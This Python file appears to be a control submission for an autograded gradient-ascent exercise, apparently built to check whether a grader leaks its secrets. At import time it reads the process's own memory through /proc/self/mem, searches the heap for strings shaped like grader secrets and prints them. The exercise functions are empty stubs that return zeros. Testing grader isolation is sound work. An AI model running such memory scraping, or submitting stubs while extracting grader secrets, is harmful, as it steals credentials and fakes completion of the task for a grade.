"""Secrets are found in the memory of the process."""

import re

EXERCISE = "02"
OUTCOMES = {"failed"}
FLOOR = 0
CONTROL = "evidence: the process holds the secrets of its grader"

try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
        for line in maps:
            if "[heap]" not in line and not line.rstrip().endswith(" 0"):
                continue
            low, high = (int(word, 16) for word in line.split()[0].split("-"))
            try:
                memory.seek(low)
                found = re.findall(rb"secret[0-9a-f]{16}", memory.read(min(high - low, 1 << 26)))
            except (OSError, ValueError):
                continue
            for word in set(found):
                print(word.decode(), flush=True)
except OSError:
    pass


def peaks(x, y):
    return 0 * x


def peaks_gradient(x, y):
    return 0 * x, 0 * y


def sympy_gradient(expression):
    return expression, expression


def ascend_by_sign(gradient, start, learning_rate, epochs):
    return [[0.0, 0.0]] * (epochs + 1)


def ascend_by_negation(descend, gradient, start, learning_rate, epochs):
    return [[0.0, 0.0]] * (epochs + 1)
